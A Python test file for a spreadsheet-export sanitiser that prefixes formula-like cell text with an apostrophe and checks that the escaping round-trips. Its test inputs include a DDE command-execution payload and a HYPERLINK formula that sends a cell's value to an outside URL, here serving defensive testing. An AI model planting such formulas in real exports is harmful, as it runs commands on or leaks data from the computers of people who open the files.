"""No cell that somebody typed is ever worked out, and every text comes back as it was."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from csp.kernel.spreadsheet import LONGEST, as_typed, holdable, looks_like_formula, neutral

TYPED = st.text(st.one_of(st.sampled_from("=+-@'\t\r\n ＝1a"), st.characters()), max_size=12)


@pytest.mark.parametrize(
    "typed",
    [
        "=1+1",
        '=HYPERLINK("https://example.org/?"&A1,"Read more")',
        "=cmd|' /C calc'!A0",
        "+44 1632 960001",
        "-5",
        "- gate the alleys",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\nGate the alleys",
        "  =1+1",
        "\xa0=1+1",
        "＝1+1",
        "＠SUM(1)",
        "'=1+1",
        "''=1+1",
    ],
)
def test_what_looks_like_a_formula_gets_an_apostrophe(typed):
    assert neutral(typed) == f"'{typed}"


@pytest.mark.parametrize(
    "typed",
    ["", "Gate the alleys", "1.10", "5-6", "a=b", "'Safe' streets", "–", "−3", "(=)", "ŵynne", "#N/A", "'"],
)
def test_other_words_stay_as_they_are(typed):
    assert neutral(typed) == as_typed(typed) == typed


@given(TYPED)
def test_nothing_neutral_begins_a_formula_in_any_program(typed):
    assert neutral(typed)[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n", "＝"}
    assert not neutral(typed).lstrip().startswith(("=", "+", "-", "@"))


@given(TYPED)
def test_every_text_comes_back_as_it_was(typed):
    assert as_typed(neutral(typed)) == typed


@given(TYPED, TYPED)
def test_two_texts_never_become_one(one, other):
    assert (neutral(one) == neutral(other)) is (one == other)


def test_a_cell_holds_no_control_characters_and_no_more_than_excel_does():
    assert holdable("a\x00b\x0bc\x1fd\te\n") == "abcd\te\n"
    assert len(holdable("a" * 40_000)) == LONGEST


@given(TYPED)
def test_text_that_a_cell_can_hold_still_looks_as_dangerous_as_it_was(typed):
    assert looks_like_formula(holdable(typed)) or not looks_like_formula(typed) or typed != holdable(typed)
